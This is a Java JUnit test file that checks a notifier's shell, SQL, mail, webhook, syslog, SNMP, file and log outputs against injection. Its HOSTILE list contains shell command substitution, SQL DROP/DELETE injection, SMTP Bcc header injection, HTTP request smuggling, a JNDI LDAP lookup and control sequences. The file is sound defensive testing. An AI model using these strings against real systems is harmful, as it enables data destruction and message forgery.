package io.weir.notifier;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.joran.JoranConfigurator;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.classic.spi.LoggingEvent;
import ch.qos.logback.core.ConsoleAppender;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.icegreen.greenmail.util.GreenMail;
import com.icegreen.greenmail.util.ServerSetup;
import com.sun.net.httpserver.HttpServer;
import io.weir.notifier.server.DebianServer;
import io.weir.notifier.spi.Deliveries;
import io.weir.notifier.spi.Delivery;
import io.weir.notifier.spi.Notifier;
import io.weir.notifier.spi.NotifierProvider;
import io.weir.notifier.syslog.FakeSyslog;
import jakarta.mail.Header;
import jakarta.mail.internet.MimeMessage;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.ServiceLoader;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.apache.kafka.common.config.AbstractConfig;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.snmp4j.CommandResponder;
import org.snmp4j.CommandResponderEvent;
import org.snmp4j.PDU;
import org.snmp4j.Snmp;
import org.snmp4j.smi.Address;
import org.snmp4j.smi.UdpAddress;
import org.snmp4j.transport.DefaultUdpTransportMapping;

/**
 * Every part of a delivery into every place that it is substituted into: whatever is written there, what arrives has the
 * same parts as with harmless words.
 */
class InjectionTest {
    private static final ObjectMapper MAPPER = new ObjectMapper();

    private static final List<String> HOSTILE = List.of(
            "$(touch HIT)",
            "`touch HIT`; touch HIT | touch HIT && touch HIT #",
            "\"; touch HIT; '; touch HIT; '",
            "--help\ntouch HIT\n",
            "'); DROP TABLE weir_notifications; --",
            "x' OR '1'='1\"; DELETE FROM weir_notifications; /*",
            "?:id$1:event",
            "x\r\nBcc: victim@example.org\r\n\r\nbody\r\n.\r\nMAIL FROM:<x@example.org>",
            "=?utf-8?q?=0d=0aBcc:_victim@example.org?=",
            "x HTTP/1.1\r\nHost: evil\r\nX-Evil: 1\r\n\r\nGET /evil",
            "../../evil?x=1&y=2#z%00%0d%0aX-Evil:1",
            "\"}],\"evil\":{\"a\":[\"\\",
            "x\n<0>1 2026-01-01T00:00:00Z evil su - - - [e@1 a=\"]\\\"] root",
            "x\n2026-01-01T00:00:00.000 ERROR [main] Evil forged",
            "\u001b[2J\u001b]0;evil\u0007\u0000\u0085\u2028",
            "${jndi:ldap://evil/x} {} %s%n %msg",
            "SNMPv2-MIB::snmpTrapOID.0 = evil\" .1.3.6.1 i 1");

    /** The parts of a delivery. */
    enum Part {
        ID,
        CLUSTER,
        EVENT,
        OBJECT_TYPE,
        OBJECT_ID,
        SUBJECT,
        TEXT,
        RECIPIENT;

        private String in(Part part, String word, String harmless) {
            return this == part ? word : harmless;
        }

        Delivery with(String word, int number) {
            Delivery model = Deliveries.nodeDown("x");
            return new Delivery(
                    in(ID, word + number, "tiny/7/" + number),
                    in(CLUSTER, word, "tiny"),
                    model.time(),
                    model.severity(),
                    in(EVENT, word, "nodedown"),
                    in(OBJECT_TYPE, word, "node"),
                    in(OBJECT_ID, word, "n1"),
                    in(SUBJECT, word, "down"),
                    in(TEXT, word, "It is down."),
                    this == RECIPIENT ? List.of("ops@example.org", word) : List.of("ops@example.org", "word"),
                    true);
        }
    }

    /** Where deliveries go to. */
    enum Place {
        SHELL,
        SQL,
        MAIL,
        URL_AND_HEADERS,
        SYSLOG,
        SNMP,
        FILE,
        LOG_LINE
    }

    @TempDir
    private Path directory;

    static Stream<Arguments> everyPartInEveryPlace() {
        return Stream.of(Place.values())
                .flatMap(place -> Stream.of(Part.values()).map(part -> Arguments.of(part, place)));
    }

    @ParameterizedTest(name = "{0} in {1}")
    @MethodSource("everyPartInEveryPlace")
    void shouldBeInert(Part part, Place place) throws Exception {
        try (Receiver receiver = receiver(place)) {
            List<String> harmless = receiver.shape(part.with("word", 0));
            assertThat(harmless).isNotEmpty();
            int number = 1;
            for (String hostile : HOSTILE) {
                assertThat(receiver.shape(part.with(hostile, number++)))
                        .as("%s", hostile)
                        .isEqualTo(harmless);
            }
        }
        try (Stream<Path> files = Files.walk(directory)) {
            assertThat(files.map(file -> String.valueOf(file.getFileName()))).doesNotContain("HIT", "evil");
        }
    }

    /** A receiver, and the channel to it. */
    private interface Receiver extends AutoCloseable {
        /** Delivers, and returns what arrived without the words that it carries. */
        List<String> shape(Delivery delivery) throws Exception;

        @Override
        void close() throws Exception;
    }

    private Receiver receiver(Place place) throws Exception {
        return switch (place) {
            case SHELL -> new Shell();
            case SQL -> new Database();
            case MAIL -> new Mail();
            case URL_AND_HEADERS -> new Web();
            case SYSLOG -> new Syslog();
            case SNMP -> new Traps();
            case FILE -> new Lines();
            case LOG_LINE -> new Log();
        };
    }

    private static Notifier open(String type, Map<String, String> settings) {
        NotifierProvider provider = ServiceLoader.load(NotifierProvider.class).stream()
                .map(ServiceLoader.Provider::get)
                .filter(each -> each.type().equals(type))
                .findFirst()
                .orElseThrow();
        return provider.open("ops", new AbstractConfig(provider.settings(), settings, false));
    }

    /** The names of all fields, with where they are. */
    private static List<String> fields(String json) throws IOException {
        List<String> names = new ArrayList<>();
        MAPPER.readTree(json)
                .properties()
                .forEach(field -> names.add(field.getKey() + ":"
                        + field.getValue().getNodeType() + field.getValue().size()));
        return names;
    }

    private final class Shell implements Receiver {
        private final Path seen = directory.resolve("seen");
        private final Notifier notifier;

        Shell() throws IOException {
            Path program = Files.writeString(
                    directory.resolve("show"),
                    "#!/bin/sh\nexec >" + seen
                            + "\necho $#\nenv -0 | tr '\\n' ' ' | tr '\\0' '\\n' | cut -d= -f1 | sort\n");
            Files.setPosixFilePermissions(program, PosixFilePermissions.fromString("rwx------"));
            notifier = InjectionTest.open(
                    "exec",
                    Map.of(
                            "program", program.toString(),
                            "directory", directory.toString(),
                            "arguments", "$ID,$CLUSTER,$EVENT,$OTYPE,x${OID}y,$SUBJECT,$MESSAGE,$RECIPIENTS"));
        }

        @Override
        public List<String> shape(Delivery delivery) throws Exception {
            notifier.deliver(delivery);
            return Files.readAllLines(seen);
        }

        @Override
        public void close() {
            notifier.close();
        }
    }

    private final class Database implements Receiver {
        private final String url = "jdbc:sqlite:" + directory.resolve("db");
        private final Notifier notifier = InjectionTest.open("jdbc", Map.of("url", url));
        private int rows;

        @Override
        public List<String> shape(Delivery delivery) throws Exception {
            notifier.deliver(delivery);
            List<String> shape = new ArrayList<>(column("SELECT name FROM sqlite_master ORDER BY name"));
            int now = Integer.parseInt(
                    column("SELECT count(*) FROM weir_notifications").get(0));
            shape.add((now - rows) + " more");
            rows = now;
            return shape;
        }

        private List<String> column(String sql) throws Exception {
            List<String> values = new ArrayList<>();
            try (Connection connection = DriverManager.getConnection(url);
                    Statement statement = connection.createStatement();
                    ResultSet found = statement.executeQuery(sql)) {
                while (found.next()) {
                    values.add(found.getString(1));
                }
            }
            return values;
        }

        @Override
        public void close() {
            notifier.close();
        }
    }

    private static final class Mail implements Receiver {
        private final GreenMail server = new GreenMail(ServerSetup.SMTP.dynamicPort());
        private final Notifier notifier;

        Mail() {
            server.start();
            notifier = InjectionTest.open(
                    "mail",
                    Map.of(
                            "host", "127.0.0.1",
                            "port", Integer.toString(server.getSmtp().getPort()),
                            "security", "none",
                            "from", "weir@example.org"));
        }

        @Override
        public List<String> shape(Delivery delivery) throws Exception {
            int before = server.getReceivedMessages().length;
            notifier.deliver(delivery);
            List<String> shape = new ArrayList<>();
            MimeMessage[] mails = server.getReceivedMessages();
            for (int i = before; i < mails.length; i++) {
                shape.add(String.join(",", mails[i].getHeader("To")));
                Collections.list(mails[i].getAllHeaders()).stream()
                        .map(Header::getName)
                        .sorted()
                        .forEach(shape::add);
            }
            return shape;
        }

        @Override
        public void close() {
            notifier.close();
            server.stop();
        }
    }

    private static final class Web implements Receiver {
        private final HttpServer server;
        private final BlockingQueue<List<String>> requests = new LinkedBlockingQueue<>();
        private final Notifier notifier;

        Web() throws IOException {
            server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
            server.createContext("/", exchange -> {
                List<String> shape = new ArrayList<>();
                shape.add(exchange.getRequestMethod() + " " + exchange.getRequestURI());
                exchange.getRequestHeaders().keySet().stream().sorted().forEach(shape::add);
                shape.addAll(fields(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8)));
                requests.add(shape);
                exchange.sendResponseHeaders(200, -1);
                exchange.close();
            });
            server.start();
            notifier = InjectionTest.open(
                    "webhook",
                    Map.of("url", "http://127.0.0.1:" + server.getAddress().getPort() + "/hook?key=value"));
        }

        @Override
        public List<String> shape(Delivery delivery) throws Exception {
            notifier.deliver(delivery);
            List<String> shape = requests.remove();
            assertThat(requests).as("one request").isEmpty();
            return shape;
        }

        @Override
        public void close() {
            notifier.close();
            server.stop(0);
        }
    }

    private static final class Syslog implements Receiver {
        private final FakeSyslog server = new FakeSyslog(DebianServer.freePort());
        private final Notifier notifier = InjectionTest.open(
                "syslog",
                Map.of("host", "127.0.0.1", "port", Integer.toString(server.port()), "hostname", "weir.example.org"));

        @Override
        public List<String> shape(Delivery delivery) throws Exception {
            int before = server.messages().size();
            notifier.deliver(delivery);
            List<String> shape = new ArrayList<>();
            List<String> messages = server.messages();
            for (String message : messages.subList(before, messages.size())) {
                assertThat(message).doesNotContainPattern("[\\p{Cntrl}\\u0080-\\u009f\\u2028]");
                // Values of the structured data, the name and the process that say it, and the text are the words.
                shape.add(message.replaceAll("=\"(?:[^\"\\\\\\]]|\\\\.)*\"", "")
                        .replaceFirst("^(<\\d+>1 \\S+ \\S+ weir \\d+) \\S+ (\\[[^\\]]*\\]) .*", "$1 $2"));
            }
            return shape;
        }

        @Override
        public void close() {
            notifier.close();
            server.stop();
        }
    }

    private final class Traps implements Receiver {
        private final BlockingQueue<PDU> received = new LinkedBlockingQueue<>();
        private final Snmp server;
        private final Notifier notifier;

        Traps() throws IOException {
            DefaultUdpTransportMapping transport = new DefaultUdpTransportMapping(new UdpAddress("127.0.0.1/0"));
            server = new Snmp(transport);
            server.addCommandResponder(new CommandResponder() {
                @Override
                public <A extends Address> void processPdu(CommandResponderEvent<A> event) {
                    received.add(event.getPDU());
                }
            });
            server.listen();
            notifier = InjectionTest.open(
                    "snmp",
                    Map.of(
                            "host",
                            "127.0.0.1",
                            "port",
                            Integer.toString(transport.getListenAddress().getPort()),
                            "version",
                            "2c",
                            "community.file",
                            Files.writeString(directory.resolve("community"), "public")
                                    .toString()));
        }

        @Override
        public List<String> shape(Delivery delivery) throws Exception {
            notifier.deliver(delivery);
            PDU trap = Objects.requireNonNull(received.poll(60, TimeUnit.SECONDS));
            assertThat(received).as("one trap").isEmpty();
            List<String> shape = new ArrayList<>();
            trap.getVariableBindings()
                    .forEach(binding -> shape.add(
                            binding.getOid() + " " + binding.getVariable().getSyntaxString()));
            shape.add(String.valueOf(trap.getVariableBindings().get(1).getVariable()));
            shape.add(String.valueOf(trap.getVariableBindings().get(5).getVariable()));
            return shape;
        }

        @Override
        public void close() throws IOException {
            notifier.close();
            server.close();
        }
    }

    private final class Lines implements Receiver {
        private final Path file = directory.resolve("notices.jsonl");
        private final Notifier notifier = InjectionTest.open("file", Map.of("path", file.toString()));
        private int lines;

        @Override
        public List<String> shape(Delivery delivery) throws Exception {
            notifier.deliver(delivery);
            List<String> all = List.of(Files.readString(file).split("\n", -1));
            List<String> shape = new ArrayList<>();
            for (String line : all.subList(lines, all.size() - 1)) {
                shape.addAll(fields(line));
                assertThat(line).doesNotContainPattern("\\p{Cntrl}");
            }
            shape.add((all.size() - 1 - lines) + " more");
            lines = all.size() - 1;
            return shape;
        }

        @Override
        public void close() {
            notifier.close();
        }
    }

    /** The words in a message of the log, as the services write it. */
    private static final class Log implements Receiver {
        private final LoggerContext context = new LoggerContext();
        private final ConsoleAppender<ILoggingEvent> appender;

        @SuppressWarnings("unchecked")
        Log() throws Exception {
            JoranConfigurator configurator = new JoranConfigurator();
            configurator.setContext(context);
            configurator.doConfigure(Objects.requireNonNull(InjectionTest.class.getResource("/logback.xml")));
            appender = (ConsoleAppender<ILoggingEvent>) Objects.requireNonNull(
                    context.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME).getAppender("stderr"));
        }

        @Override
        public List<String> shape(Delivery delivery) {
            LoggingEvent event = new LoggingEvent(
                    "x",
                    context.getLogger("io.weir.notifier"),
                    Level.WARN,
                    "deliveryId={} cluster={} event={} type={} object={} subject={} text={} recipients={}",
                    null,
                    new Object[] {
                        delivery.id(),
                        delivery.cluster(),
                        delivery.event(),
                        delivery.objectType(),
                        delivery.objectId(),
                        delivery.subject(),
                        delivery.text(),
                        delivery.recipients()
                    });
            event.setTimeStamp(0);
            String written = new String(appender.getEncoder().encode(event), StandardCharsets.UTF_8);
            assertThat(written).endsWith(System.lineSeparator());
            String line = written.substring(
                    0, written.length() - System.lineSeparator().length());
            assertThat(line).doesNotContainPattern("[\\x00-\\x08\\x0a-\\x1f\\x7f]");
            return List.of(line.substring(0, line.indexOf("deliveryId=")));
        }

        @Override
        public void close() {
            context.stop();
        }
    }
}
